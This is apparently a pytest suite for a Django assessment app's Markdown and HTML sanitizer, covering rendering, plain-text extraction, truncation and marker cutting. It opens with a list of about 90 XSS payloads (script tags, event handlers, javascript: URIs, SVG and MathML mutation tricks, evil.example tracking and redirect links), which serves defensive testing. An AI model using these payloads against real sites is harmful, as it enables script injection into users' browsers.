from __future__ import annotations

import pickle
import re
from html.parser import HTMLParser
from time import process_time

import pytest
from django.utils.html import conditional_escape, escape
from hypothesis import given
from hypothesis import strategies as st

from assessments.domain import mathematics
from assessments.domain.markup import ATTRIBUTES, TAGS, cut, label, plain, render, render_inline, texts

EVERYWHERE = ATTRIBUTES["*"]
PUT_BY_THE_SANITIZER = {("a", "rel"), ("a", "target"), ("audio", "controls"), ("audio", "preload")}

XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<img src='/a.png' ONLOAD=alert(1)>",
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="data:text/html,<script>alert(1)</script>">',
    '<img src="https://evil.example/pixel.gif">',
    '<img src="//evil.example/pixel.gif">',
    '<img src="/\\evil.example/pixel.gif">',
    '<img src="/\t/evil.example/pixel.gif">',
    '<img srcset="https://evil.example/a.png 2x" src="/a.png">',
    "![x](https://evil.example/pixel.gif)",
    "![x](//evil.example/pixel.gif)",
    '![x](/a.png "onerror=alert(1)")',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="&#x6A;&#x61;vascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href="/\\evil.example">x</a>',
    '<a href="https://ok.example" onclick="alert(1)" style="position:fixed" ping="https://evil.example">x</a>',
    '<a href="https://ok.example" target="_self" rel="opener">x</a>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    "<iframe src='javascript:alert(1)'></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data='data:text/html,x'></object><embed src='/x.swf'>",
    "<form action='https://evil.example'><input name=value><button formaction='javascript:alert(1)'>x</button></form>",
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p onmouseover="alert(1)" id="value" name="value" class="option" data-x="1" hx-get="/x" hx-on:click="alert(1)">x</p>',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<template><img src=x onerror=alert(1)></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><img src=x onerror=alert(1)>",
    "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "`<img src=x onerror=alert(1)>`",
    "$<img src=x onerror=alert(1)>$",
    "$$\n<script>alert(1)</script>\n$$",
    r"$\text{<img src=x onerror=alert(1)>}$",
    r"$\text{&lt;img src=x onerror=alert(1)&gt;}$",
    r"$\href{javascript:alert(1)}{x}$",
    r"$\style{position:fixed}{x}$",
    r"$\class{option}{x}$",
    r"$\unicode{x3c}img src=x onerror=alert(1)\unicode{x3e}$",
    r"$\verb|<img src=x onerror=alert(1)>|$",
    r'$\color{"><img src=x onerror=alert(1)>}{x}$',
    r"<td>$\text{</math><img src=x onerror=alert(1)>}$</td>",
    "<math><maction actiontype='statusline' xlink:href='javascript:alert(1)'>x</maction></math>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math><mi href='javascript:alert(1)' style='color:red' onclick='alert(1)'>x</mi></math>",
    "|<script>alert(1)</script>|\n|-|\n|<img src=x onerror=alert(1)>|",
    "<code class='language-x onclick' onclick='alert(1)'>x</code>",
    "\0<scr\0ipt>alert(1)</script>",
    "<img src=x:x onerror\0=alert(1)>",
]


class Seen(HTMLParser):
    """Every element and attribute of a page, as a parser sees them."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []
        self.others: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_comment(self, data: str) -> None:
        self.others.append(data)

    def handle_decl(self, decl: str) -> None:
        self.others.append(decl)

    def handle_pi(self, data: str) -> None:
        self.others.append(data)

    def unknown_decl(self, data: str) -> None:
        self.others.append(data)


def dangers(html: str) -> list[object]:
    seen = Seen(html)
    return [
        *seen.others,
        *(tag for tag in seen.tags if tag not in TAGS | mathematics.TAGS),
        *(found for found in seen.attributes if not is_harmless(*found)),
    ]


def is_harmless(tag: str, name: str, value: str) -> bool:
    if name == "href":
        return value.startswith(("https://", "http://", "mailto:", "#", "?")) or is_local(value)
    if name == "src":
        return value.startswith(("data:image/png;base64,", "data:image/jpeg;base64,")) or is_local(value)
    if tag in mathematics.TAGS:
        return name in EVERYWHERE | mathematics.ATTRIBUTES.get(tag, set())
    return name in EVERYWHERE | ATTRIBUTES.get(tag, set()) or (tag, name) in PUT_BY_THE_SANITIZER


def is_local(url: str) -> bool:
    return url.startswith("/") and url[1:2] not in ("/", "\\") and url.isprintable()


@pytest.mark.parametrize("payload", XSS)
def test_nothing_that_runs_or_calls_home_is_left(payload):
    assert dangers(render(payload)) == []
    assert dangers(render_inline(f"An option {payload}")) == []


@pytest.mark.parametrize(
    "html",
    [
        "<script>alert(1)</script>",
        "<p onclick=x>",
        "<a href='javascript:alert(1)'>x</a>",
        "<img src='https://evil.example/a.png'>",
        "<img src='//evil.example/a.png'>",
        "<div style='x'>",
        "<math><mi onclick=x>",
        "<math href='javascript:alert(1)'>",
        "<math><annotation-xml>",
        "<!-- x -->",
    ],
)
def test_the_check_above_would_see_them(html):
    assert dangers(html) != []


@given(
    st.lists(
        st.sampled_from([*XSS, "\n", "\n\n", "> ", "- ", "|", "`", "**", "$", "    ", "<", ">", '"', "<b>", "]("]),
        max_size=8,
    )
)
def test_no_mixture_of_attacks_gets_through_either(parts):
    assert dangers(render("".join(parts))) == []


@given(st.text(max_size=200))
def test_any_text_at_all_is_rendered_safely_and_has_plain_words(text):
    assert dangers(render(text)) == []
    assert plain(text) == " ".join(plain(text).split())


@pytest.mark.parametrize(
    ("markdown", "html"),
    [
        (
            "Plain **bold** *it* ~~no~~ `x<1`",
            "<p>Plain <strong>bold</strong> <em>it</em> <s>no</s> <code>x&lt;1</code></p>",
        ),
        ("# One\n## Two\n##### Five", "<h3>One</h3>\n<h4>Two</h4>\n<h6>Five</h6>"),
        ("1. a\n2. b", "<ol>\n<li>a</li>\n<li>b</li>\n</ol>"),
        ("3. a", '<ol start="3">\n<li>a</li>\n</ol>'),
        ("```python\nif a < b: pass\n```", '<pre><code class="language-python">if a &lt; b: pass\n</code></pre>'),
        ("```c++ numbered\nx\n```", '<pre><code class="language-c++">x\n</code></pre>'),
        ("    indented", "<pre><code>indented\n</code></pre>"),
        ("H<sub>2</sub>O and <kbd>Tab</kbd>", "<p>H<sub>2</sub>O and <kbd>Tab</kbd></p>"),
        ('<p lang="de" dir="ltr">Guten Tag</p>', '<p lang="de" dir="ltr">Guten Tag</p>'),
        ('<p lang="&quot;x" dir="up">x</p>', "<p>x</p>"),
        ("![A plot](/static/plot.png)", '<p><img src="/static/plot.png" alt="A plot"></p>'),
        ("![A](data:image/png;base64,iVBO)", '<p><img src="data:image/png;base64,iVBO" alt="A"></p>'),
        ("![A](https://elsewhere.example/a.png)", '<p><img alt="A"></p>'),
        ("", ""),
    ],
)
def test_what_authors_write_looks_as_they_mean_it(markdown, html):
    assert render(markdown) == html


def test_tables_keep_their_alignment_as_a_class_since_style_attributes_are_forbidden():
    table = render("| n | words |\n|--:|:--|\n| 1 | one |")
    assert [found for found in Seen(table).attributes if found[0] == "td"] == [
        ("td", "class", "align-right"),
        ("td", "class", "align-left"),
    ]


@pytest.mark.parametrize(
    "link", ["[x](https://a.example/b?c=d)", '<a href="https://a.example/b?c=d" rel="opener">x</a>']
)
def test_a_link_opens_in_a_new_tab_and_tells_the_other_side_nothing(link):
    assert sorted(Seen(render(link)).attributes) == [
        ("a", "href", "https://a.example/b?c=d"),
        ("a", "rel", "noopener noreferrer nofollow"),
        ("a", "target", "_blank"),
    ]


@pytest.mark.parametrize(
    "text",
    [
        "List<String>",
        "#include <stdio.h>",
        "What does <iframe> do?",
        "the <head> element",
        "a <script>x</script> tag",
        "vector<int> v",
    ],
)
def test_what_only_looks_like_html_is_shown_as_it_was_written(text):
    assert (plain(text), dangers(render(text))) == (text, [])


def test_a_tag_that_is_only_about_looks_goes_without_a_trace():
    assert render_inline('<font color="red">red</font> <center>mid</center>') == "red mid"


@pytest.mark.parametrize(
    "text",
    [
        "$a_1 * b_1 * c$",
        r"$\{x\}$",
        "$$\\sum_{i=1}^n *i*$$",
        r"$\alpha$ and $\beta$",
        "costs $5 or $6",
        "$HOME and $PATH",
        "$",
    ],
)
def test_mathematics_and_money_stay_as_typed(text):
    assert plain(text) == text


def test_emphasis_between_two_prices_is_still_emphasis():
    assert render_inline("from $5 *only* to $6") == "from $5 <em>only</em> to $6"


def test_a_dollar_in_code_is_code():
    assert render_inline("`$x` and `$y`") == "<code>$x</code> and <code>$y</code>"


@pytest.mark.parametrize(
    ("markdown", "html"),
    [
        ("One **line**", "One <strong>line</strong>"),
        ("  One line\n", "One line"),
        ("One\n\nTwo", "<p>One</p>\n<p>Two</p>"),
        ("```\nx\n```", "<pre><code>x\n</code></pre>"),
        ("- a", "<ul>\n<li>a</li>\n</ul>"),
    ],
)
def test_a_single_paragraph_is_rendered_without_its_paragraph(markdown, html):
    assert render_inline(markdown) == html


def test_rendered_html_is_not_escaped_again_even_after_it_was_in_a_cache():
    html = render("a < b")
    assert conditional_escape(pickle.loads(pickle.dumps(html))) == "<p>a &lt; b</p>"


@pytest.mark.parametrize(
    ("markdown", "words"),
    [
        ("# Title\n\nFirst *line*\nsecond & `code < 1`", "Title First line second & code < 1"),
        ("- one\n- two", "one two"),
        ("| a | b |\n|---|---|\n| 1 | 2 |", "a b 1 2"),
        ("un<b>break</b>able", "unbreakable"),
        ("See ![the tree](/static/tree.png) now", "See the tree now"),
        ("a<br>b", "a b"),
        ("", ""),
    ],
)
def test_plain_words_are_those_a_reader_sees(markdown, words):
    assert plain(markdown) == words


@pytest.mark.parametrize(
    ("limit", "words"), [(13, "one two three"), (12, "one two…"), (8, "one two…"), (7, "one…"), (4, "one…"), (2, "o…")]
)
def test_a_limit_cuts_between_words_and_shows_it(limit, words):
    assert plain("one *two* three", limit=limit) == words


@given(st.text(max_size=80), st.integers(1, 40))
def test_a_limit_is_kept(text, limit):
    assert len(plain(text, limit=limit)) <= limit


def test_half_a_surrogate_pair_does_not_break_a_page():
    assert render("a\ud83d") == "<p>a?</p>"


@pytest.mark.parametrize(
    "text",
    [
        "[" * 20_000,
        "*a" * 10_000,
        "> " * 5_000 + "x",
        "$a " * 10_000,
        r"\(" * 10_000,
        "$$a\n" * 5_000,
        "$a$ " * 5_000,
        "<b>" * 10_000,
        "<" * 20_000,
    ],
)
def test_text_made_to_take_long_does_not(text):
    started = process_time()
    render(text)
    assert process_time() - started < 3


MARKER = re.compile(r"\{\{(\w+)\}\}")


def test_html_is_cut_at_markers_in_its_text_and_nowhere_else():
    html = render('A {{1}} in <b title="> {{2}} <">bold {{3}}</b>, `{{4}}` &amp; {{5}}')
    pieces = cut(html, MARKER)
    assert pieces[1::2] == ["1", "3", "4", "5"]
    assert pieces[2] == ' in <b title="&gt; {{2}} &lt;">bold '
    assert [conditional_escape(piece) for piece in pieces[::2]] == pieces[::2]  # as safe as the whole


@given(st.lists(st.sampled_from([*XSS, "{{1}}", "{{2}}", "\n\n", "- ", "|", "`", "**", "<b>", "](", "<"]), max_size=8))
def test_pieces_make_the_whole_again_and_no_piece_ends_within_a_tag(parts):
    html = render("".join(parts))
    pieces = cut(html, MARKER)
    assert "".join(piece if place % 2 == 0 else "{{" + piece + "}}" for place, piece in enumerate(pieces)) == html
    filled = "".join(piece if place % 2 == 0 else "<wbr>" for place, piece in enumerate(pieces))
    assert Seen(filled).tags.count("wbr") == Seen(html).tags.count("wbr") + len(pieces) // 2
    assert dangers(filled) == []


def test_each_run_of_text_comes_with_the_elements_around_it():
    assert list(texts(render("a *b `c`*<br>[d](#e)"))) == [
        ("a ", {"p"}),
        ("b ", {"p", "em"}),
        ("c", {"p", "em", "code"}),
        ("d", {"p", "a"}),
    ]


@pytest.mark.parametrize("text", ["\u00a0 1. b", "\u00a0- b", "\u00a0# b"])
def test_an_option_behind_hard_spaces_is_no_list_and_no_heading(text: str):
    assert render_inline(text) == text.strip()


@pytest.mark.parametrize("mark", [">", ">>", "-", "+", "*", "#", "1.", "2)", "---", "***", "```", "=", "~", " - "])
def test_a_text_that_is_nothing_but_a_mark_is_that_mark(mark: str) -> None:
    shown = escape(mark.strip())
    assert render_inline(mark) == shown
    assert render(mark) == f"<p>{shown}</p>"
    assert (plain(mark), label(mark)) == (mark.strip(), mark.strip())
